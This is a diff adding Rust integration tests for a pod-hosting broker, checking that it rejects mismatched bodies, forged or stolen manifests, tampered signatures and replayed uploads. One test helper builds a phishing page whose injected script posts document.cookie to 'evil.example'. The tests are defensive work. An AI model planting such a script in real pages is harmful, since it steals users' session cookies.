@@ -125,6 +125,11 @@ async fn a_body_that_is_not_the_one_that_was_signed() {
     let slug = server.store(owner.pod("old").html()).await;
     let path = format!("/{slug}");
     let (signed, other) = (owner.pod("new").html(), owner.pod("other").html());
+    let headers = owner.signature(&Method::POST, BROKER, "/pods", Some(&signed), later());
+    let post = server.http.post(server.url("/pods")).headers(headers).header("content-type", "text/html");
+    let answer = post.body(other.clone()).send().await.unwrap();
+    assert_eq!(answer.status(), StatusCode::BAD_REQUEST);
+    assert!(answer.text().await.unwrap().contains("the Content-Digest does not fit the body"));
     let headers = owner.signature(&Method::PUT, BROKER, &path, Some(&signed), later());
     let put = server.http.put(server.url(&path)).headers(headers).header("content-type", "text/html");
     let answer = put.body(other).send().await.unwrap();
@@ -132,6 +137,148 @@ async fn a_body_that_is_not_the_one_that_was_signed() {
     assert!(answer.text().await.unwrap().contains("the Content-Digest does not fit the body"));
     let served = server.http.get(server.url(&path)).send().await.unwrap().text().await.unwrap();
     assert_eq!(served, owner.pod("old").html());
+}
+
+/// A page with the manifest of `owner`, which is public, and a stranger's script.
+fn phishing(owner: &Owner) -> String {
+    let mut pod = owner.pod("mine");
+    pod.before.insert_str(
+        0,
+        "<script>fetch('https://evil.example', { method: 'POST', body: document.cookie })</script>",
+    );
+    pod.html()
+}
+
+#[tokio::test]
+async fn a_stolen_manifest_where_only_owners_may_upload() {
+    let (alice, bob, stranger) = (Owner::new(), Owner::new(), Owner::new());
+    let owners = format!("[uploads]\npolicy = \"owners\"\nowners = [\"{}\", \"{}\"]", alice.key(), bob.key());
+    let server = broker(&owners).await;
+    let html = phishing(&alice);
+    let unsigned = server.upload(html.clone()).await;
+    assert_eq!(unsigned.status(), StatusCode::UNAUTHORIZED);
+    assert!(unsigned.headers()["accept-signature"].to_str().unwrap().contains("content-digest"));
+    assert!(unsigned.text().await.unwrap().contains("gemmapod-signal pods put"));
+    for (thief, sentence) in
+        [(&stranger, "takes pods of certain owners only"), (&bob, "signed by another owner key")]
+    {
+        let post = thief.signed(&server, Method::POST, "/pods", Some(&html), later()).send().await.unwrap();
+        assert_eq!(post.status(), StatusCode::FORBIDDEN);
+        let body = post.text().await.unwrap();
+        assert!(body.contains(sentence), "{body}");
+    }
+    // With the owner's name on the thief's signature, and with half a signature.
+    let mut headers = bob.signature(&Method::POST, BROKER, "/pods", Some(&html), later());
+    let input = headers["signature-input"].to_str().unwrap().replace(&bob.key(), &alice.key());
+    headers.insert("signature-input", input.parse().unwrap());
+    for remove in ["", "signature", "signature-input"] {
+        let mut headers = headers.clone();
+        headers.remove(remove);
+        let post = server.http.post(server.url("/pods")).headers(headers).header("content-type", "text/html");
+        assert_eq!(post.body(html.clone()).send().await.unwrap().status(), StatusCode::UNAUTHORIZED);
+    }
+    assert_eq!(listed(&server, &alice).await, []);
+    let slug = alice.upload(&server, &alice.pod("mine").html()).await;
+    assert_eq!(listed(&server, &alice).await, [(slug, "signed".to_owned())]);
+}
+
+/// The slugs in an owner's list, and how each was uploaded.
+async fn listed(server: &TestServer, owner: &Owner) -> Vec<(String, String)> {
+    let path = format!("/owner/{}/pods", owner.key());
+    let list = owner.signed(server, Method::GET, &path, None, later()).send().await.unwrap();
+    let list: serde_json::Value = list.json().await.unwrap();
+    let text = |pod: &serde_json::Value, field: &str| pod[field].as_str().unwrap().to_owned();
+    list["pods"].as_array().unwrap().iter().map(|pod| (text(pod, "id"), text(pod, "upload"))).collect()
+}
+
+#[tokio::test]
+async fn a_stolen_manifest_where_anybody_may_upload() {
+    let server = broker("signal.bind = \"uploads\"\nquotas.pods_per_owner = 1").await;
+    let owner = Owner::new();
+    let mut pod = owner.pod("mine");
+    let reachable = owner.reachable("pod", "dartc");
+    for _ in 0..3 {
+        server.store(reachable.clone()).await;
+    }
+    // The pod id is nobody's yet, and the owner's quota is whole.
+    drop(server.origin("pod").await);
+    let genuine = owner.upload(&server, &pod.html()).await;
+    let forged = server.store(phishing(&owner)).await;
+    for (slug, upload) in [(&genuine, "signed"), (&forged, "unsigned")] {
+        is_told(&server, slug, upload).await;
+    }
+    let unsigned = listed(&server, &owner).await.into_iter().filter(|(_, upload)| upload == "unsigned");
+    let unsigned: Vec<_> = unsigned.map(|(slug, _)| slug).collect();
+    assert!(unsigned.len() == 4 && unsigned.contains(&forged), "{unsigned:?}");
+    // The manifest is the owner's: the owner deletes the page, or puts the right one in its place.
+    for slug in &unsigned {
+        let delete = owner.signed(&server, Method::DELETE, &format!("/{slug}"), None, later());
+        assert_eq!(delete.send().await.unwrap().status(), StatusCode::NO_CONTENT);
+    }
+    let delete = owner.signed(&server, Method::DELETE, &format!("/{genuine}"), None, later());
+    assert_eq!(delete.send().await.unwrap().status(), StatusCode::NO_CONTENT);
+    let forged = server.store(phishing(&owner)).await;
+    pod.after.push(' ');
+    let put = owner.signed(&server, Method::PUT, &format!("/{forged}"), Some(&pod.html()), later());
+    assert_eq!(put.send().await.unwrap().status(), StatusCode::OK);
+    is_told(&server, &forged, "signed").await;
+    // Now it counts: there is room for no other.
+    let full = owner.signed(&server, Method::POST, "/pods", Some(&pod.html()), later()).send().await.unwrap();
+    assert_eq!(full.status(), StatusCode::FORBIDDEN);
+}
+
+/// Each answer about the pod says how it was uploaded, with both versions of HTTP.
+async fn is_told(server: &TestServer, slug: &str, upload: &str) {
+    let url = server.url(&format!("/{slug}"));
+    for client in
+        [reqwest::Client::builder().http1_only(), reqwest::Client::builder().http2_prior_knowledge()]
+    {
+        let client = client.build().unwrap();
+        let etag = client.head(&url).send().await.unwrap().headers()["etag"].clone();
+        for (request, status) in [
+            (client.get(&url), StatusCode::OK),
+            (client.head(&url), StatusCode::OK),
+            (client.get(&url).header("range", "bytes=0-9"), StatusCode::PARTIAL_CONTENT),
+            (client.get(&url).header("if-none-match", etag), StatusCode::NOT_MODIFIED),
+            (client.get(format!("{url}/meta")), StatusCode::OK),
+            (client.head(format!("{url}/meta")), StatusCode::OK),
+        ] {
+            let answer = request.send().await.unwrap();
+            assert_eq!(answer.status(), status);
+            assert_eq!(answer.headers()["x-pod-upload"], upload, "{answer:?}");
+        }
+        let meta: serde_json::Value =
+            client.get(format!("{url}/meta")).send().await.unwrap().json().await.unwrap();
+        assert!(meta.get("upload").is_none() && meta.get("uploadSigned").is_none(), "{meta}");
+    }
+}
+
+#[tokio::test]
+async fn replay_of_a_signed_upload() {
+    let server = broker("").await;
+    let owner = Owner::new();
+    let html = owner.pod("mine").html();
+    let post = owner.signed(&server, Method::POST, "/pods", Some(&html), later());
+    let replay = post.try_clone().unwrap();
+    assert_eq!(post.send().await.unwrap().status(), StatusCode::OK);
+    let replayed = replay.send().await.unwrap();
+    assert_eq!(replayed.status(), StatusCode::UNAUTHORIZED);
+    assert!(replayed.text().await.unwrap().contains("taken once already"));
+    assert_eq!(listed(&server, &owner).await.len(), 1);
+    // What was signed for one slug, or as another method, is no upload.
+    for (method, path) in [(Method::PUT, "/pods"), (Method::POST, "/aaaaaaaaaaaa"), (Method::DELETE, "/pods")]
+    {
+        let headers = owner.signature(&method, BROKER, path, Some(&html), later());
+        let post = server.http.post(server.url("/pods")).headers(headers).header("content-type", "text/html");
+        assert_eq!(post.body(html.clone()).send().await.unwrap().status(), StatusCode::UNAUTHORIZED);
+    }
+    // Nor is a signature that leaves the body out.
+    let headers = owner.signature(&Method::POST, BROKER, "/pods", None, later());
+    let post = server.http.post(server.url("/pods")).headers(headers).header("content-type", "text/html");
+    let answer = post.body(html).send().await.unwrap();
+    assert_eq!(answer.status(), StatusCode::UNAUTHORIZED);
+    assert!(answer.text().await.unwrap().contains("does not cover content-digest"));
+    assert_eq!(listed(&server, &owner).await.len(), 1);
 }
 
 #[tokio::test]
